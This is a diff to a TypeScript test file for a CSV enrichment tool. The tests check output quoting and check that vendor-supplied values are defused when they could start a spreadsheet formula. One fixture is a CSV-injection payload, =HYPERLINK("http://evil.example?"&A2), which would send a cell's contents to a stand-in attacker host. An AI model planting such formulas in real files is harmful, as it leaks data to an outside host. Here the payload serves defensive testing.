@@ -16,6 +16,8 @@ import { callKeyOf } from '../src/call-key.ts';
 import { systemClock } from '../src/clock.ts';
 import type { RunEvent } from '../src/events.ts';
 import { loadFamily } from '../src/family.ts';
+import type { ReadOptions } from '../src/format.ts';
+import { safeCell } from '../src/formulas.ts';
 import { type Input, openInput } from '../src/input.ts';
 import { type Batch, credits, type Ledger, type SettledRow } from '../src/ledger.ts';
 import type { Call, Operation } from '../src/operation.ts';
@@ -29,7 +31,7 @@ import {
 } from '../src/output.ts';
 import { OUR_COLUMNS, type Outcome } from '../src/row.ts';
 import memory from '../src/stores/memory.ts';
-import { bytesOf, cellText, written, writtenCsv } from './formats/csv-arbitrary.ts';
+import { bytesOf, cellText, quoted, written, writtenCsv } from './formats/csv-arbitrary.ts';
 
 const ANSWERED_MS = Date.UTC(2026, 10, 20, 2, 13);
 const OURS = OUR_COLUMNS.join();
@@ -72,9 +74,13 @@ class Desk {
   }
 
   /** Writes the list and begins its batch. */
-  async list(content: string | Buffer, name = 'list.csv'): Promise<{ input: Input; batch: Batch }> {
+  async list(
+    content: string | Buffer,
+    name = 'list.csv',
+    read: ReadOptions = {},
+  ): Promise<{ input: Input; batch: Batch }> {
     writeFileSync(this.path(name), content);
-    const input = await openInput(this.path(name), {});
+    const input = await openInput(this.path(name), read);
     const { batch } = await this.ledger.beginBatch({
       key: `${name} ${input.survey.sha256}`,
       lineage: name,
@@ -141,7 +147,10 @@ class Desk {
   ): Promise<OutputFiles> {
     const { input, batch } = list;
     const additions: Additions = { onExisting: 'refuse', ...job };
-    const destination = await chooseDestination(input, additions, this.path(output), batch.sandbox);
+    const destination = await chooseDestination(input, additions, {
+      named: this.path(output),
+      sandbox: batch.sandbox,
+    });
     const emit = (event: RunEvent): void => {
       if (event.kind === 'note') this.notes.push(event.message);
     };
@@ -161,7 +170,8 @@ describe('the output', () => {
     await fc.assert(
       fc.asyncProperty(writtenCsv, fc.array(cellText, { minLength: 1 }), async (file, reasons) => {
         const desk = await Desk.open();
-        const list = await desk.list(bytesOf(file));
+        // Said, and not left to a guess: cells of any text may look more like a table of semicolons.
+        const list = await desk.list(bytesOf(file), 'list.csv', { delimiter: 'comma' });
         const numbers = new Map(file.pieces.map((piece, at) => [piece, at + 1]));
         const reasonOf = (row: number): string => reasons[row % reasons.length] ?? '';
         for (const [piece, row] of numbers) {
@@ -169,10 +179,14 @@ describe('the output', () => {
             await desk.settle(list.batch, row, { kind: 'no_match', reason: reasonOf(row) });
         }
         await desk.write(list);
+        // Where the header has all its cells in quotes, ours have quotes as well.
+        const header = file.pieces.find(({ kind }) => kind === 'header')?.text;
+        const inStyle = file.header.map(quoted).join() === header ? quoted : written;
         const expected = bytesOf(file, (piece) => {
           if (piece.kind === 'blank') return '';
-          if (piece.kind === 'header') return `,${OURS}`;
-          return `,no_match,${written(reasonOf(numbers.get(piece) ?? 0))},,0,,`;
+          if (piece.kind === 'header') return `,${OUR_COLUMNS.map(inStyle).join()}`;
+          const { text } = safeCell(reasonOf(numbers.get(piece) ?? 0));
+          return `,${['no_match', text, '', '0', '', ''].map(inStyle).join()}`;
         });
         expect(readFileSync(desk.path('out.csv')).equals(expected)).toBe(true);
       }),
@@ -239,7 +253,9 @@ describe('the output', () => {
     } as const;
     const [streamed] = await Promise.all([
       buffer(stream),
-      writeOutput(order, list.input, list.batch, { kind: 'stream', stream }).then(() => stream.end()),
+      writeOutput(order, list.input, list.batch, { kind: 'stream', stream, isWorkbook: false }).then(() =>
+        stream.end(),
+      ),
     ]);
     expect(streamed.toString()).toBe(once[0]);
     expect(readdirSync(desk.folder).filter((name) => name.includes('tmp'))).toEqual([]);
@@ -449,5 +465,73 @@ describe('an earlier output as an input', () => {
     const again = await desk.list(desk.read('out.csv'), 'again.csv');
     await desk.write(again, 'again-out.csv', job);
     expect(desk.read('again-out.csv')).toBe(`Domain,employees,${OURS}\na,,pending,,,0,,\n`);
+  });
+});
+
+describe('what a vendor says never becomes a formula', () => {
+  const FORMULA = '=HYPERLINK("http://evil.example?"&A2)';
+  const QUOTED = '"\'=HYPERLINK(""http://evil.example?""&A2)"';
+
+  test('in the added columns, their names, the reasons and the file of those that need attention', async () => {
+    const desk = await Desk.open();
+    const list = await desk.list('Domain,Sum\na,=1+1\nb,+2\n');
+    const body = { name: FORMULA, phone: '+61 2 9999 0000', change: -5.5, '=field': ' ＝1+1' };
+    const attempt = await desk.answer(list.batch, 2, body);
+    await desk.settle(list.batch, 2, { kind: 'matched', matchedBy: 'domain' }, [attempt]);
+    await desk.settle(list.batch, 3, { kind: 'refused', reason: '@SUM(1)' });
+    const { tally } = await desk.write(list);
+    expect(desk.read('out.csv').split('\n')).toEqual([
+      `Domain,Sum,name,phone,change,'=field,${OURS}`,
+      `a,=1+1,${QUOTED},+61 2 9999 0000,-5.5,' ＝1+1,matched,,domain,1,bought,2026-11-20T02:13:00.000Z`,
+      "b,+2,,,,,refused,'@SUM(1),,0,,",
+      '',
+    ]);
+    expect(desk.read('out.needs-attention.csv')).toBe("Domain,Sum,_row,_reason\nb,+2,3,'@SUM(1)\n");
+    // The name of a column, two cells and a reason, which stands in two files.
+    expect(tally.formulas).toBe(4);
+    expect(desk.read('out.report.html')).toContain('4 cells that would have begun a formula');
+  });
+
+  test('in the file of results', async () => {
+    const desk = await Desk.open();
+    const list = await desk.list('Domain\na\n');
+    await desk.matchAll(list.batch, { results: [{ '@name': '-1+1', email: 'jo@acme.example' }] });
+    const { tally } = await desk.write(list, 'out.csv', { add: {}, operation: { resultsFile: 'people' } });
+    expect(desk.read('out.people.csv')).toBe("_row,'@name,email\n2,'-1+1,jo@acme.example\n");
+    expect(tally.formulas).toBe(2);
+  });
+
+  test('raw: all is as the vendor said it, and the report says nothing', async () => {
+    const desk = await Desk.open();
+    const list = await desk.list('Domain\na\n');
+    await desk.matchAll(list.batch, { '=name': '=1+1' });
+    const { tally } = await desk.write(list, 'out.csv', { formulas: 'raw' });
+    expect(desk.read('out.csv')).toContain('Domain,=name,_status');
+    expect(desk.read('out.csv')).toContain('\na,=1+1,matched');
+    expect(tally.formulas).toBe(0);
+    expect(desk.read('out.report.html')).not.toContain('formula');
+  });
+
+  test('and an output that is an input again gets one apostrophe, not two, however it was written', async () => {
+    for (const formulas of ['safe', 'raw'] as const) {
+      const desk = await Desk.open();
+      const list = await desk.list('Domain\na\n');
+      await desk.matchAll(list.batch, { '=name': '=1+1' });
+      await desk.write(list, 'out.csv', { formulas });
+      const again = await desk.list(desk.read('out.csv'), 'again.csv');
+      const [answer] = (await desk.ledger.rows(list.batch.id, 2, 1)).flatMap(({ answers }) => answers);
+      const matched: Outcome = { kind: 'matched', matchedBy: 'domain' };
+      await desk.settle(again.batch, 2, matched, answer === undefined ? [] : [answer.attempt]);
+      await desk.write(again, 'out-again.csv');
+      expect(desk.read('out-again.csv')).toMatch(/^Domain,'=name,_status,.*\na,'=1\+1,matched,/);
+    }
+  });
+
+  test('while a cell of the user’s own that is kept, in a column that is filled, stays as it is', async () => {
+    const desk = await Desk.open();
+    const list = await desk.list('Domain,size\na,=1+1\nb,\n');
+    await desk.matchAll(list.batch, { size: 5 }, { size: '=2+2' });
+    await desk.write(list, 'out.csv', { add: { size: 'size' }, onExisting: 'fill' });
+    expect(desk.table('out.csv')).toMatchObject([{ size: '=1+1' }, { size: "'=2+2" }]);
   });
 });
